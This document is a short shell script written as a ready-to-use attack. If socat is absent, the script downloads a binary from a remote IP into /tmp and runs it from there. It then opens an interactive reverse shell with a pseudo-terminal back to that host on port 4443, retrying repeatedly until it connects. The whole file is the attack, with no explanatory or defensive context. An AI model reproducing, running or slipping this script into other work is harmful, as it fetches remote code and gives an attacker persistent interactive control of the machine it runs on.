#!/bin/sh
command -v socat || { wget -q http://203.0.113.98/socat -O /tmp/socat; chmod +x /tmp/socat; PATH=$PATH:/tmp; }
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.98:4443,retry=30,interval=10
